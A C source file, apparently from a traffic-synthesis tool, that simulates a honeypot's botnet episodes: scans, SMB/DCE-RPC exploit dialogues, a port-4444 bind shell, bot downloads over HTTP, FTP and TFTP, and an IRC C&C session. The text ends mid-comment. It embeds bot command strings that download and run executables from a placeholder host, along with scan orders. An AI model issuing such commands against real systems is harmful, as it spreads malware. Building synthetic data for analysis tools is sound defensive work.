/*
 * synth-episode.c - bh-synth's scenario: the hosts that take part and the
 * episodes of a bot's life (scan, infection, download, C&C, attack) and
 * the background (DNS, NetBIOS, ARP).
 */
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "bh.h"
#include "synth.h"

/* ---- the hosts of the scenario ---------------------------------------- */

/* An attacker: the pool is skewed (u^2) so some hosts come back often;
 * mostly Windows, some Unix, a few other. */
static void
pick_attacker(struct host *h, int af)
{
	uint32_t a = below(synst.n_attackers), b = below(synst.n_attackers);

	host_make(h, af, IDX_ATTACKER + (uint32_t)((uint64_t)a * b /
	    synst.n_attackers), 850, 130);
}

/*
 * The next source port of attacker h, like a stack's ephemeral port
 * counter (Windows 1025-5000, Linux 32768-61000): a host that comes
 * back within the idle timeout never reuses a live session's port.
 */
static uint16_t
attacker_port(const struct host *h)
{
	uint32_t idx = h->idx - IDX_ATTACKER, lo, n;

	lo = h->os == OS_WINDOWS ? 1025 : 32768;
	n = h->os == OS_WINDOWS ? 3976 : 28233;
	if (synst.att_port[idx] == 0)
		synst.att_port[idx] = h->portbase;
	synst.att_port[idx] = (uint16_t)(lo + (synst.att_port[idx] + 1 - lo) % n);
	return synst.att_port[idx];
}

/* A download server: mostly Unix. */
/* (A planted bot's servers are its own, as its C&C server below.) */
static void
pick_http(struct host *h, int af)
{
	uint32_t k = below(synst.n_http);

	if (synst.cur_episode != 0)
		k = synst.n_http + synst.cur_episode % 0x8000;
	host_make(h, af, IDX_HTTP + k, 120, 800);
}

static void
pick_ftp(struct host *h, int af)
{
	uint32_t k = below(synst.n_ftp);

	if (synst.cur_episode != 0)
		k = synst.n_ftp + synst.cur_episode % 0x8000;
	host_make(h, af, IDX_FTP + k, 300, 650);
}

/* A C&C server, its port: 6667 for most, odd ports for the rest. */
static uint16_t
pick_irc(struct host *h, int af)
{
	static const uint16_t odd[] = { 6668, 7000, 5555, 8080, 1863, 3127,
	    6666, 9999, 1337, 28000 };
	uint32_t k = below(synst.n_irc);
	uint64_t x;

	/* a planted bot has a C&C server of its own (the servers of the
	 * others are shared by the bots already on the honeypot) */
	if (synst.cur_episode != 0)
		k = synst.n_irc + synst.cur_episode % 0x8000;
	x = splitmix_hash(synst.seed ^ (0x1cc0000ULL + k));
	host_make(h, af, IDX_IRC + k, 100, 850);
	return x % 10 < 6 ? 6667 : odd[(x >> 8) % 10];
}

/* How a handshake goes: mostly plainly, a few of each Karn case. */
static enum hs
pick_hs(int out)
{
	unsigned r = below(1000);

	if (out) {
		if (r < 15)
			return HS_SYN_RETX;
		if (r < 30)
			return HS_SYN_RETX_TS;
		if (r < 42)
			return HS_SYN_RETX_TS_FIRST;
		if (r < 54)
			return HS_SYN_RETX_TS_SAME;
	} else {
		if (r < 12)
			return HS_SYNACK_RETX;
		if (r < 24)
			return HS_SYNACK_RETX_TS;
		if (r < 36)
			return HS_SYN_RETX_IN;
	}
	return HS_PLAIN;
}

/*
 * A TCP session between the honeypot and host h: out when the honeypot
 * opens it.  Draws the RTT of this session (the host's base plus up to
 * 10% jitter), the VLAN case and whether both ends use timestamps.
 */
static struct sess *
tcp_new(const struct host *h, int out, uint16_t rport, uint16_t lport,
    int64_t *rtt)
{
	struct sess *s = sess_new(h->af, BH_IPPROTO_TCP);

	if (out) {
		side_init(s, 0, NULL, lport);
		side_init(s, 1, h, rport);
		s->dir = DIR_OUT;
	} else {
		side_init(s, 0, h, rport);
		side_init(s, 1, NULL, lport);
		s->dir = DIR_IN;
	}
	s->truth = 1;
	s->state = "SF";
	*rtt = h->rtt + range(0, h->rtt / 10);
	/* Windows XP sends no timestamps unless told to (Tcp1323Opts) */
	if (h->stack == OS_UNIX && chance(400))
		s->sd[0].ts = s->sd[1].ts = 1;
	s->vlan = chance(40) ? 1 : chance(15) ? 2 : 0;
	return s;
}

/* ---- episodes --------------------------------------------------------- */

static int
pick_af(void)
{
	return chance(30) ? 6 : 4;
}

/* An inbound scan of a Windows port: unanswered (S0, the SYN perhaps
 * retried after 3 and 6 s), refused (REJ), or half-open (S SA R). */
static void
ep_scan(int64_t t)
{
	static const uint16_t ports[] = { 445, 445, 445, 139, 135 };
	static const char *const apps[] = { "smb", "smb", "smb", "netbios",
	    "dcerpc" };
	struct host h;
	struct sess *s, *s2;
	struct step *p;
	int64_t rtt;
	unsigned k = below(5), r = below(100);

	pick_attacker(&h, pick_af());
	s = tcp_new(&h, 0, attacker_port(&h), ports[k],
	    &rtt);
	s->sd[0].ts = s->sd[1].ts = 0;
	s->phase = "scan";
	s->app = apps[k];
	s->how = "no-synack";
	p = step_add(s, 0, t, BH_TH_SYN);
	p->opt = OPT_SYN;
	s->sd[0].nxt = 1;
	if (r < 50) {
		s->state = "S0";
		if (chance(400)) {
			p = step_add(s, 0, t + 3 * SEC, BH_TH_SYN);
			p->seq = 0;
			p->opt = OPT_SYN;
			if (chance(500)) {
				p = step_add(s, 0, t + 9 * SEC, BH_TH_SYN);
				p->seq = 0;
				p->opt = OPT_SYN;
			}
		}
	} else if (r < 80) {
		s->state = "REJ";
		tcp_reset(s, 1, t + local_delay());
		if (chance(30)) {
			/* probed again from the same port, a new ISN: port
			 * reuse after the reset, a second session */
			s2 = tcp_new(&h, 0, s->sd[0].port, ports[k], &rtt);
			s2->sd[0].ts = s2->sd[1].ts = 0;
			s2->vlan = s->vlan;
			s2->phase = "scan";
			s2->app = apps[k];
			s2->how = "no-synack";
			s2->state = "REJ";
			s2->note = "port-reuse";
			p = step_add(s2, 0, t + range(SEC, 3 * SEC),
			    BH_TH_SYN);
			p->opt = OPT_SYN;
			s2->sd[0].nxt = 1;
			tcp_reset(s2, 1, p->t + local_delay());
			sess_start(s2);
		}
	} else {
		s->state = "RSTO";
		s->how = "no-ack";
		s->rtt_local = local_delay();
		p = step_add(s, 1, t + s->rtt_local, BH_TH_SYN |
		    BH_TH_ACK);
		p->opt = OPT_SYN;
		s->sd[1].nxt = 1;
		step_add(s, 0, p->t + rtt, BH_TH_RST);
	}
	sess_start(s);
}

/*
 * The exploit dialogue on port (445 SMB with an MS04-011 DCE/RPC
 * request inside, 139 the same behind a NetBIOS session request, 135 a
 * bare DCE/RPC bind and the MS03-026 request) from side c to the
 * honeypot's side, or from the honeypot when it propagates.  full: the
 * whole exploit, else the attacker gives up after the negotiation.
 * Returns the time after the last message.
 */
int64_t
exploit(struct sess *s, int64_t t, int64_t rtt, uint16_t port, int full)
{
	int c = 0;	/* the originator attacks, in and out */
	struct step *p;
	int64_t rt = s->remote == c ? rtt : local_delay();
	int64_t lt = s->remote == c ? local_delay() : rtt;
	uint32_t off;

	if (port == 135) {
		t = tcp_msg(s, c, t, synst.m_rpc_bind.p, synst.m_rpc_bind.n);
		t = tcp_msg(s, !c, t + lt, synst.m_rpc_bind_r.p, synst.m_rpc_bind_r.n);
		if (!full)
			return t + rt;
		t += rt + range(200, 3000);
		stream_add(s, c, synst.m_rpc_req.p, synst.m_rpc_req.n);
		off = s->sd[c].sent;
		t = tcp_send(s, c, t, 30);
		t = tcp_ack(s, !c, t + lt);
		if (chance(40)) {
			/* the ACK was lost upstream: the first segment again */
			p = step_add(s, c, t + rt + 300 * MS, BH_TH_ACK);
			p->seq = 1 + off;
			p->off = off;
			p->len = MSS;
			t = tcp_ack(s, !c, p->t + lt);
			s->note = "data-retx";
		}
		return t + rt;
	}
	if (port == 139) {
		t = tcp_msg(s, c, t, synst.m_nbss_req.p, synst.m_nbss_req.n);
		t = tcp_msg(s, !c, t + lt, synst.m_nbss_ok.p, synst.m_nbss_ok.n);
		t += rt + range(200, 3000);
	}
	t = tcp_msg(s, c, t, synst.m_smb_neg.p, synst.m_smb_neg.n);
	t = tcp_msg(s, !c, t + lt, synst.m_smb_neg_r.p, synst.m_smb_neg_r.n);
	t += rt + range(200, 3000);
	if (!full)
		return t;
	t = tcp_msg(s, c, t, synst.m_smb_ssx.p, synst.m_smb_ssx.n);
	t = tcp_msg(s, !c, t + lt, synst.m_smb_ssx_r.p, synst.m_smb_ssx_r.n);
	t += rt + range(200, 3000);
	t = tcp_msg(s, c, t, synst.m_smb_tree.p, synst.m_smb_tree.n);
	t = tcp_msg(s, !c, t + lt, synst.m_smb_tree_r.p, synst.m_smb_tree_r.n);
	t += rt + range(200, 3000);
	t = tcp_msg(s, c, t, synst.m_smb_ntc.p, synst.m_smb_ntc.n);
	t = tcp_msg(s, !c, t + lt, synst.m_smb_ntc_r.p, synst.m_smb_ntc_r.n);
	t += rt + range(200, 3000);
	t = tcp_msg(s, c, t, synst.m_smb_bind.p, synst.m_smb_bind.n);
	t = tcp_msg(s, !c, t + lt, synst.m_smb_bind_r.p, synst.m_smb_bind_r.n);
	t += rt + range(200, 3000);
	stream_add(s, c, synst.m_smb_expl.p, synst.m_smb_expl.n);
	off = s->sd[c].sent;
	t = tcp_send(s, c, t, 30);
	t = tcp_ack(s, !c, t + lt);
	if (chance(40)) {
		p = step_add(s, c, t + rt + 300 * MS, BH_TH_ACK);
		p->seq = 1 + off;
		p->off = off;
		p->len = MSS;
		t = tcp_ack(s, !c, p->t + lt);
		s->note = "data-retx";
	}
	t = tcp_msg(s, !c, t + 2 * MS, synst.m_smb_expl_r.p, synst.m_smb_expl_r.n);
	return t + rt;
}

/* An infection attempt by h at t; returns when it ended. */
static int64_t
ep_infection(int64_t t, const struct host *h, int full)
{
	static const uint16_t ports[] = { 445, 445, 445, 445, 135, 135, 135,
	    139 };
	struct sess *s;
	int64_t rtt;
	uint16_t port = ports[below(8)];
	unsigned r;

	s = tcp_new(h, 0, attacker_port(h), port, &rtt);
	s->phase = "infection";
	s->app = port == 135 ? "dcerpc" : "smb";
	if (s->episode != 0)
		s->evidence = "start";
	t = tcp_handshake(s, t, rtt, pick_hs(0));
	/* one draw per statement: C leaves the order of the operands open,
	 * and the bytes must not depend on the compiler */
	t += range(100, 2000);
	full = full || chance(400);
	/* an attacker that negotiates and gives up has probed the service:
	 * a scan (bh-phase.rules(5): smb-probe, dcerpc-bind) */
	if (!full)
		s->phase = "scan";
	t = exploit(s, t, rtt, port, full);
	r = below(100);
	if (r < 70)
		t = tcp_close(s, 0, t, rtt);
	else if (r < 85) {
		t = tcp_reset(s, 0, t);
		s->state = "RSTO";
	} else
		t = tcp_close(s, 1, t + 2 * SEC, rtt);
	sess_start(s);
	return t;
}

/*
 * The bind shell an exploit opened on the honeypot's port 4444 (the
 * MS04-011 and MS08-067 shellcodes): cmd.exe's banner and prompt, the
 * attacker's download order cmd, the
 * prompt again; the attacker closes.  Phase infection, app shell.
 */
static int64_t
ep_shell(int64_t t, const struct host *h, const char *cmd)
{
	struct sess *s;
	const unsigned char *p;
	size_t len;
	int64_t rtt;

	s = tcp_new(h, 0, attacker_port(h), 4444, &rtt);
	s->phase = "infection";
	s->app = "shell";
	if (s->episode != 0)
		s->evidence = "same-source";
	t = tcp_handshake(s, t, rtt, HS_PLAIN);
	p = text(s, &len, "Microsoft Windows XP [Version 5.1.2600]\r\n(C) "
	    "Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\"
	    "system32>");
	t = tcp_msg(s, 1, t + local_delay(), p, len);
	p = text(s, &len, "%s", cmd);
	t = tcp_msg(s, 0, t + rtt + range(50 * MS, 500 * MS), p, len);
	t = tcp_msg(s, 0, t + 1, "\r\n", 2);
	t = tcp_msg(s, 1, t + local_delay(), "\r\nC:\\WINDOWS\\system32>",
	    23);
	t = tcp_close(s, 0, t + rtt + range(100 * MS, SEC), rtt);
	sess_start(s);
	return t;
}

/* A DNS lookup of name by the honeypot (RFC 1035 §4.1). */
static int64_t
ep_dns(int64_t t, const char *name, const unsigned char *answer)
{
	struct host h;
	struct sess *s = sess_new(4, BH_IPPROTO_UDP);
	unsigned char q[300], *r;
	size_t n = 12, l;
	const char *dot;
	uint16_t id = (uint16_t)below(65536);
	int64_t rtt;

	s->episode = 0;		/* no step of a bot's life (bh-story) */
	host_make(&h, 4, IDX_RESOLVER, 0, 1000);
	side_init(s, 0, NULL, hp_ephemeral());
	side_init(s, 1, &h, 53);
	s->truth = 1;
	s->dir = DIR_OUT;
	s->app = "dns";
	s->how = "udp";
	rtt = h.rtt / 4 + range(0, 400);
	memset(q, 0, 12);
	q[0] = id >> 8;
	q[1] = id & 0xff;
	q[2] = 0x01;
	q[5] = 1;
	while (*name != '\0') {
		dot = strchr(name, '.');
		l = dot != NULL ? (size_t)(dot - name) : strlen(name);
		q[n++] = (unsigned char)l;
		memcpy(q + n, name, l);
		n += l;
		name += l + (dot != NULL);
	}
	q[n++] = 0;
	memcpy(q + n, "\0\1\0\1", 4);
	n += 4;
	r = s->text;
	memcpy(r, q, n);
	memcpy(r + n, q, n);
	r[n + 2] = 0x81;
	r[n + 3] = 0x80;
	r[n + 7] = 1;
	memcpy(r + 2 * n, "\xc0\x0c\0\1\0\1\0\0\x0e\x10\0\4", 12);
	memcpy(r + 2 * n + 12, answer, 4);
	s->textlen = 2 * n + 16;
	stream_add(s, 0, r, n);
	stream_add(s, 1, r + n, n + 16);
	step_add(s, 0, t, 0)->len = (uint32_t)n;
	step_add(s, 1, t + rtt, 0)->len = (uint32_t)n + 16;
	s->st[1].off = 0;
	sess_start(s);
	return t + rtt;
}

/* An HTTP download of the bot from a server (RFC 7230). */
static const char *const http_paths[] = { "/x.exe", "/bot.exe",
    "/msupd.exe", "/win32.exe", "/sys/svchost.exe", "/images/mslaugh.exe",
    "/dl/setup.exe" };
static int64_t dl_http_at(int64_t t, const struct host *hp, const char *dom,
    const char *path);

static int64_t
dl_http(int64_t t, int af)
{
	struct host h;
	const char *dom = domains[1 + below(5)];

	pick_http(&h, af);
	return dl_http_at(t, &h, dom, http_paths[below(7)]);
}

/* The HTTP download of path from server h, named dom. */
static int64_t
dl_http_at(int64_t t, const struct host *hp, const char *dom,
    const char *path)
{
	static const char *const servers[] = { "Microsoft-IIS/6.0",
	    "Apache/2.2.3 (CentOS)", "Sun-ONE-Web-Server/6.1" };
	struct host h = *hp;
	int af = h.af;
	struct sess *s;
	const unsigned char *p;
	size_t n;
	int64_t rtt;
	uint32_t size;
	int dup, lose1;

	if (af == 4 && chance(500)) {
		t = ep_dns(t, dom, h.addr);
		t += local_delay();
		t += range(0, 20 * MS);
	}
	s = tcp_new(&h, 1, 80, hp_ephemeral(), &rtt);
	s->phase = "download";
	s->app = "http";
	if (s->episode != 0)
		s->evidence = "cmd-url";
	t = tcp_handshake(s, t, rtt, pick_hs(1));
	p = text(s, &n, "GET %s HTTP/1.1\r\nAccept: */*\r\nUser-Agent: "
	    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\nHost: %s"
	    "\r\nConnection: close\r\n\r\n", path, dom);
	t = tcp_msg(s, 0, t + local_delay(), p, n);
	size = (uint32_t)range(13000, 64000);
	size <<= below(3);
	p = text(s, &n, "HTTP/1.1 200 OK\r\nServer: %s\r\nContent-Length: %u"
	    "\r\nConnection: close\r\nContent-Type: application/octet-stream"
	    "\r\n\r\n", servers[h.os], size);
	stream_add(s, 1, p, n);
	stream_add(s, 1, synst.body, size);
	dup = chance(80);
	lose1 = chance(20);
	t = tcp_bulk(s, 1, t + rtt + range(1 * MS, 40 * MS), rtt, h.gap, dup,
	    lose1);
	/* (a short body has no segment to lose: tcp_bulk says when) */
	if (s->note[0] == '-')
		s->note = lose1 && size > 2 * MSS ? "reorder" : dup ? "data-retx" :
		    "bulk";
	t = tcp_close(s, 1, t + 1, rtt);
	sess_start(s);
	return t;
}

/*
 * An FTP download (RFC 959; EPSV per RFC 2428 on IPv6): from the
 * attacker's own bot FTP server on a high port, or from a server on 21;
 * the data connection active (the server connects from port-1 to the
 * PORT address) or passive.  Both sessions are download, linked.
 */
/* The FTP server of a download after attacker's exploit: half the time
 * the attacker's own bot FTP server on a high port. */
static void
ftp_pick(const struct host *attacker, struct host *h, uint16_t *port,
    int *botftp)
{
	*botftp = chance(500);
	if (*botftp) {
		*h = *attacker;
		*port = (uint16_t)range(1024, 40000);
	} else {
		pick_ftp(h, attacker->af);
		*port = 21;
	}
}

static int64_t
dl_ftp(int64_t t, const struct host *hp, uint16_t port, int botftp)
{
	struct host h = *hp;
	struct sess *c, *d;
	const unsigned char *p;
	size_t n;
	int64_t rtt, drtt, td;
	uint16_t dport, lport;
	int passive;
	uint32_t size;

	size = (uint32_t)range(13000, 64000);
	size <<= below(3);
	passive = h.af == 6 || chance(400);
	c = tcp_new(&h, 1, port, hp_ephemeral(), &rtt);
	c->phase = "download";
	c->app = "ftp";
	if (c->episode != 0)
		c->evidence = "cmd-ftp";
	t = tcp_handshake(c, t, rtt, pick_hs(1));
	p = text(c, &n, botftp ? "220 StnyFtpd 0wns j0\r\n" :
	    h.os == OS_WINDOWS ? "220 Serv-U FTP Server v6.0 for WinSock "
	    "ready...\r\n" : "220 (vsFTPd 2.0.5)\r\n");
	t = tcp_msg(c, 1, t + rtt, p, n);
	t += local_delay();
	t = tcp_msg(c, 0, t + range(0, 5 * MS), "USER 1\r\n", 8);
	t = tcp_msg(c, 1, t + rtt + range(0, 3 * MS),
	    "331 Password required\r\n", 23);
	t = tcp_msg(c, 0, t + local_delay(), "PASS 1\r\n", 8);
	t = tcp_msg(c, 1, t + rtt + range(0, 3 * MS), "230 User logged in.\r\n",
	    21);
	t = tcp_msg(c, 0, t + local_delay(), "TYPE I\r\n", 8);
	t = tcp_msg(c, 1, t + rtt, "200 Type set to I\r\n", 19);
	lport = hp_ephemeral();
	d = tcp_new(&h, passive, 0, lport, &drtt);
	d->phase = "download";
	d->app = "ftp-data";
	if (d->episode != 0)
		d->evidence = "ftp-data";
	d->vlan = c->vlan;
	if (passive) {
		/* the client connects to the announced port, then asks */
		dport = (uint16_t)range(1024, 60000);
		if (h.af == 6) {
			t = tcp_msg(c, 0, t + local_delay(), "EPSV\r\n", 6);
			p = text(c, &n, "229 Entering Extended Passive Mode "
			    "(|||%u|)\r\n", dport);
		} else {
			t = tcp_msg(c, 0, t + local_delay(), "PASV\r\n", 6);
			p = text(c, &n, "227 Entering Passive Mode (%u,%u,%u,"
			    "%u,%u,%u)\r\n", h.addr[0], h.addr[1], h.addr[2],
			    h.addr[3], dport >> 8, dport & 0xff);
		}
		t = tcp_msg(c, 1, t + rtt, p, n);
		d->sd[1].port = dport;
		t = tcp_handshake(d, t + local_delay(), drtt, HS_PLAIN);
		t = tcp_msg(c, 0, t + local_delay(), "RETR bot.exe\r\n", 14);
		td = t + drtt + range(100, 2 * MS);
		t = tcp_msg(c, 1, t + rtt, "150 Opening BINARY mode data "
		    "connection.\r\n", 42);
	} else {
		/* the server connects from port-1 to the PORT address */
		dport = botftp ? (uint16_t)(port - 1) : 20;
		d->sd[0].port = dport;
		p = text(c, &n, "PORT 192,168,56,101,%u,%u\r\n", lport >> 8,
		    lport & 0xff);
		t = tcp_msg(c, 0, t + local_delay(), p, n);
		t = tcp_msg(c, 1, t + rtt, "200 PORT command successful.\r\n",
		    30);
		t = tcp_msg(c, 0, t + local_delay(), "RETR bot.exe\r\n", 14);
		t = tcp_msg(c, 1, t + rtt, "150 Opening BINARY mode data "
		    "connection.\r\n", 42);
		td = tcp_handshake(d, t + range(100, 2 * MS), drtt, HS_PLAIN);
		td += range(100, 2 * MS);
	}
	stream_add(d, d->remote, synst.body, size);
	t = tcp_bulk(d, d->remote, td, drtt, h.gap, chance(60), 0);
	t = tcp_close(d, d->remote, t + 1, drtt);
	c->partner = d;
	d->partner = c;
	sess_start(d);
	t = tcp_msg(c, 1, t + range(100, 3000), "226 Transfer complete.\r\n",
	    24);
	t += local_delay();
	t = tcp_msg(c, 0, t + range(0, 50 * MS), "QUIT\r\n", 6);
	t = tcp_msg(c, 1, t + rtt, "221 Goodbye.\r\n", 14);
	t = tcp_close(c, 1, t + 1, rtt);
	sess_start(c);
	return t;
}

/*
 * A TFTP download (RFC 1350) from the attacker: the RRQ to port 69,
 * then DATA from another port of the server, each block acknowledged.
 * Two UDP sessions, both download/tftp, linked.
 */
static int64_t
dl_tftp(int64_t t, const struct host *h)
{
	struct sess *q, *d;
	uint16_t lport = hp_ephemeral();
	uint32_t size = (uint32_t)range(6000, 40000), blocks, b, len;
	int64_t rtt = h->rtt + range(0, h->rtt / 10);
	struct step *p;
	size_t n;
	const unsigned char *rrq;

	q = sess_new(h->af, BH_IPPROTO_UDP);
	side_init(q, 0, NULL, lport);
	side_init(q, 1, h, 69);
	q->truth = 1;
	q->dir = DIR_OUT;
	q->phase = "download";
	q->app = "tftp";
	if (q->episode != 0)
		q->evidence = "cmd-tftp";
	q->how = "udp";
	rrq = text(q, &n, "%c%cmsblast.exe%coctet%c", 0, 1, 0, 0);
	stream_add(q, 0, rrq, n);
	step_add(q, 0, t, 0)->len = (uint32_t)n;

	d = sess_new(h->af, BH_IPPROTO_UDP);
	side_init(d, 0, h, (uint16_t)range(1024, 5000));
	side_init(d, 1, NULL, lport);
	d->truth = 1;
	d->dir = DIR_IN;
	d->phase = "download";
	d->app = "tftp";
	if (d->episode != 0)
		d->evidence = "tftp-data";
	d->how = "udp";
	blocks = size / TFTP_BLOCK + 1;
	t += rtt + range(0, 2 * MS);
	for (b = 1; b <= blocks; b++) {
		len = b < blocks ? TFTP_BLOCK : size % TFTP_BLOCK;
		p = step_add(d, 0, t, 0);
		p->off = d->sd[0].slen;
		p->len = 4 + len;
		stream_add(d, 0, synst.tftp_hdr[b], 4);
		stream_add(d, 0, synst.body + (b - 1) * TFTP_BLOCK, len);
		t += local_delay();
		p = step_add(d, 1, t, 0);
		p->off = d->sd[1].slen;
		p->len = 4;
		stream_add(d, 1, synst.tftp_ack[b], 4);
		t += rtt;
	}
	q->partner = d;
	d->partner = q;
	sess_start(q);
	sess_start(d);
	return t;
}

/*
 * The bot's IRC session to its C&C server (RFC 1459/2812): the server's
 * NOTICE AUTH (sometimes), NICK/USER, the welcome numerics, JOIN, the
 * channel topic carrying the bot command, then PING/PONG every 90–180 s,
 * now and then a command in a PRIVMSG; closed by either side or reset.
 * Some servers' route changes once (TTL one lower from then on).
 */
static int64_t
ep_cnc(int64_t t, int af)
{
	static const char *const cmds[] = { ".advscan lsass 200 5 0 -r -s",
	    ".advscan dcom135 100 3 0 -b", ".download http://%s/x.exe c:\\x.exe 1",
	    ".update http://%s/bot.exe", ".asc asn445 50 5 0 -r -b" };
	static const char *const chans[] = { "#mipsel", "#s", "#x#", "##bots",
	    "#exploit" };
	struct host h;
	struct sess *s;
	const unsigned char *p, *ping, *pong;
	size_t n, npi, npo;
	int64_t rtt;
	uint16_t port = pick_irc(&h, af);
	unsigned i, rounds = 1 + below(24), nick = below(100000);
	const char *chan = chans[below(5)];
	char srv[64], cmd[128], user[5];
	unsigned r;

	if (af == 4 && chance(600)) {
		t = ep_dns(t, domains[0], h.addr);
		t += local_delay();
	}
	s = tcp_new(&h, 1, port, hp_ephemeral(), &rtt);
	s->phase = "cnc";
	s->app = "irc";
	if (s->episode != 0)
		s->evidence = "time";
	snprintf(srv, sizeof(srv), "irc%u.%s", below(9), domains[0] + 4);
	snprintf(cmd, sizeof(cmd), cmds[below(5)], "1.2.3.4");
	t = tcp_handshake(s, t, rtt, pick_hs(1));
	if (chance(500)) {
		p = text(s, &n, ":%s NOTICE AUTH :*** Looking up your "
		    "hostname...\r\n", srv);
		t = tcp_msg(s, 1, t + rtt, p, n);
	}
	for (i = 0; i < 4; i++)
		user[i] = (char)('a' + below(26));
	user[4] = '\0';
	p = text(s, &n, "NICK [XP|USA|%05u]\r\nUSER %s 0 0 :%05u\r\n",
	    nick, user, nick);
	t += local_delay();
	t = tcp_msg(s, 0, t + range(0, 10 * MS), p, n);
	p = text(s, &n, ":%s 001 [XP|USA|%05u] :Welcome to the IRC Network\r\n"
	    ":%s 005 [XP|USA|%05u] NETWORK=bots :are supported\r\n"
	    ":%s 376 [XP|USA|%05u] :End of /MOTD command.\r\n",
	    srv, nick, srv, nick, srv, nick);
	t = tcp_msg(s, 1, t + rtt + range(0, 20 * MS), p, n);
	p = text(s, &n, "JOIN %s k3y\r\n", chan);
	t = tcp_msg(s, 0, t + local_delay(), p, n);
	p = text(s, &n, ":[XP|USA|%05u]!x@192.168.56.101 JOIN :%s\r\n"
	    ":%s 332 [XP|USA|%05u] %s :%s\r\n", nick, chan, srv, nick,
	    chan, cmd);
	t = tcp_msg(s, 1, t + rtt, p, n);
	t = tcp_ack(s, 0, t + 200 * MS);
	ping = text(s, &npi, "PING :%s\r\n", srv);
	pong = text(s, &npo, "PONG :%s\r\n", srv);
	for (i = 0; i < rounds; i++) {
		t += range(90 * SEC, 180 * SEC);
		if (chance(250)) {
			p = text(s, &n, ":boss!b@cc PRIVMSG %s :%s\r\n", chan,
			    cmd);
			t = tcp_msg(s, 1, t, p, n);
			t = tcp_ack(s, 0, t + 200 * MS);
			t += range(SEC, 20 * SEC);
		}
		t = tcp_msg(s, 1, t, ping, npi);
		t = tcp_msg(s, 0, t + local_delay(), pong, npo);
		t = tcp_ack(s, 1, t + rtt);
		if (i == 0 && chance(30)) {
			s->sd[1].ttl--;
			s->note = "ttl-change";
		}
	}
	r = below(100);
	if (r < 40) {
		p = text(s, &n, "ERROR :Closing Link: 192.168.56.101 (Ping "
		    "timeout)\r\n");
		t = tcp_msg(s, 1, t + range(SEC, 60 * SEC), p, n);
		t = tcp_close(s, 1, t + 1, rtt);
	} else if (r < 60) {
		t = tcp_reset(s, 0, t + range(SEC, 60 * SEC));
		s->state = "RSTO";
	} else {
		t = tcp_msg(s, 0, t + range(SEC, 60 * SEC), "QUIT\r\n", 6);
		t = tcp_close(s, 0, t + local_delay(), rtt);
	}
	sess_start(s);
	return t;
}

/* The honeypot, now a bot, propagating: an outbound exploit. */
static void
ep_attack(int64_t t)
{
	struct host h;
	struct sess *s;
	int64_t rtt;
	uint16_t port = chance(700) ? 445 : 135;
	int tries = 0;

	/* a Windows host of the attackers' pool (the exploit is for
	 * Windows): one that is Windows in its other sessions too */
	do
		pick_attacker(&h, 4);
	while (h.os != OS_WINDOWS && ++tries < 16);
	h.os = h.stack = OS_WINDOWS;
	s = tcp_new(&h, 1, port, hp_ephemeral(), &rtt);
	s->phase = "attack";
	s->app = port == 135 ? "dcerpc" : "smb";
	t = tcp_handshake(s, t, rtt, HS_PLAIN);
	t = exploit(s, t + local_delay(), rtt, port, 1);
	t = tcp_close(s, 0, t, rtt);
	sess_start(s);
}

/*
 * A NetBIOS name registration broadcast by a LAN host (RFC 1002
 * §4.2.2), three times 750 ms apart.  A host broadcasts at most every
 * two minutes, so each burst is one UDP session (idle timeout 60 s).
 */
static void
ep_netbios(int64_t t)
{
	static const unsigned char hdr[] = { 0x80, 0x01, 0x29, 0x10, 0, 1,
	    0, 0, 0, 0, 0, 1, 0x20 };
	static const unsigned char tail[] = { 0, 0, 0x20, 0, 1, 0xc0, 0x0c,
	    0, 0x20, 0, 1, 0, 4, 0x93, 0xe0, 0, 6, 0x60, 0 };
	struct sess *s;
	unsigned k = below(NLAN), i;
	unsigned char *q;
	char name[16];

	if (synst.lan_last[k] != 0 && t - synst.lan_last[k] < 120 * SEC)
		return;
	synst.lan_last[k] = t;
	s = sess_new(4, BH_IPPROTO_UDP);
	side_init(s, 0, NULL, 137);
	side_init(s, 1, NULL, 137);
	s->sd[0].addr[3] = (unsigned char)(2 + k);
	s->sd[1].addr[3] = 255;
	s->truth = 1;
	s->dir = DIR_LOCAL;
	s->app = "netbios";
	s->how = "udp";
	s->sd[0].ttl = 128;
	snprintf(name, sizeof(name), "PC-%02u          ", k);
	q = s->text;
	memcpy(q, hdr, sizeof(hdr));
	for (i = 0; i < 16; i++) {
		unsigned char ch = i < 15 ? (unsigned char)name[i] : 0;

		q[13 + 2 * i] = (unsigned char)('A' + (ch >> 4));
		q[14 + 2 * i] = (unsigned char)('A' + (ch & 0xf));
	}
	memcpy(q + 45, tail, sizeof(tail));
	q[64] = 192;
	q[65] = 168;
	q[66] = 56;
	q[67] = (unsigned char)(2 + k);
	s->textlen = 68;
	stream_add(s, 0, q, 68);
	for (i = 0; i < 3; i++)
		step_add(s, 0, t + i * 750 * MS, 0)->len = 68;
	sess_start(s);
}

/* ARP for the gateway and its reply (not IP: no session). */
static void
ep_arp(int64_t t)
{
	struct sess *s = sess_new(4, 0);
	unsigned char *q = s->text;
	static const unsigned char gw[4] = { 192, 168, 56, 1 };

	side_init(s, 0, NULL, 0);
	side_init(s, 1, NULL, 0);
	memcpy(s->sd[1].addr, gw, 4);
	s->dir = DIR_LOCAL;
	memcpy(q, "\0\1\x08\0\6\4\0\1", 8);
	bh_pb_mac_from_ip(q + 8, 4, synst.hp4);
	memcpy(q + 14, synst.hp4, 4);
	memset(q + 18, 0, 6);
	memcpy(q + 24, gw, 4);
	memcpy(q + 28, "\0\1\x08\0\6\4\0\2", 8);
	bh_pb_mac_from_ip(q + 36, 4, gw);
	memcpy(q + 42, gw, 4);
	bh_pb_mac_from_ip(q + 46, 4, synst.hp4);
	memcpy(q + 52, synst.hp4, 4);
	s->textlen = 56;
	stream_add(s, 0, q, 28);
	stream_add(s, 1, q + 28, 28);
	step_add(s, 0, t, 0)->len = 28;
	step_add(s, 1, t + range(200, 900), 0)->len = 28;
	sess_start(s);
}

/*
 * One arrival of the scenario at t.  room: how many more sessions -n
 * allows (a large number without -n); the multi-session episodes need
 * up to 7.  The mix is tuned so that a capture has about 10 packets and
 * 4 KB per session, like the benchmark capture of bench/README.md.
 */
void
episode(int64_t t, uint64_t room)
{
	struct host h, srv;
	char cmd[512];
	unsigned r = below(1000);
	int af;

	synst.now = t;
	if (room < 8 && r >= 330 && r < 580)
		r = 600;
	/* the planted bots' lives do not overlap (bh-story could then join
	 * a C&C to its infection by time alone only by chance): a success
